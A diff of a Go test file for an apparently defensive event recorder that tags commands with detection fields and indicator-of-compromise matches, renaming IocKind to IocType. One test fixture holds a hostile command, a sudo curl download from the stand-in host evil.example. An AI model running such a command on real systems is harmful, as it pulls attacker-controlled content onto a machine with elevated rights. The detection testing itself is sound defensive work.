@@ -14,11 +14,11 @@ func described(e *Event) (lines []string) {
 	if e.Asker == nil {
 		e.Asker = &Asker{Kind: "operator", Owner: OwnerYes}
 	}
-	r := newRecorder(ioc.NewList([]ioc.Indicator{{Type: ioc.Domain, Value: "evil.example", Tier: ioc.TierA}}), trusted{{"telegram", "42"}: true})
+	r := newRecorder(ioc.NewList([]ioc.Indicator{{Type: ioc.Domain, Value: "evil.example", Tier: ioc.TierA}}), &world{allowed: map[[2]string]string{{"telegram", "42"}: TrustPaired}})
 	for _, rec := range r.of(e) {
 		for _, field := range []string{
 			"CommandLine", "Image", "ParentImage", "Host", "Url", "OutputPath", "ExecutedPath", "TargetFilename", "EventType", "Content", "c-uri", "cs-host", "Recipient", "Attachment",
-			"Arguments", "Action", "Ioc", "IocKind", "Trust", "Untrusted", "SessionKind", "Elevated", "Node", "RemoteScope", "State", "Message", "Remote", "Reason", "Auth", "OriginForeign", "Method", "Wrapper",
+			"Arguments", "Action", "Ioc", "IocType", "Trust", "Untrusted", "SessionKind", "Elevated", "Node", "RemoteScope", "State", "Message", "Remote", "Reason", "Auth", "OriginForeign", "Method", "Wrapper",
 		} {
 			for _, v := range rec.Values(field) {
 				lines = append(lines, fmt.Sprintf("%s %s=%s", rec.Category, field, v))
@@ -37,7 +37,7 @@ func TestRecords(t *testing.T) {
 		{
 			"a command",
 			Event{Kind: KindExec, What: `sudo curl -o /tmp/a https://evil.example/p | tee /tmp/b`},
-			[]string{"process_creation Image=/usr/bin/curl", "process_creation Host=evil.example", "process_creation Url=https://evil.example/p", "process_creation Ioc=evil.example", "process_creation IocKind=domain", "process_creation Trust=owner", "file_event TargetFilename=/tmp/b", "process_creation OutputPath=/tmp/a"},
+			[]string{"process_creation Image=/usr/bin/curl", "process_creation Host=evil.example", "process_creation Url=https://evil.example/p", "process_creation Ioc=evil.example", "process_creation IocType=domain", "process_creation Trust=owner", "file_event TargetFilename=/tmp/b", "process_creation OutputPath=/tmp/a"},
 			[]string{"process_creation Untrusted=true"},
 		},
 		{
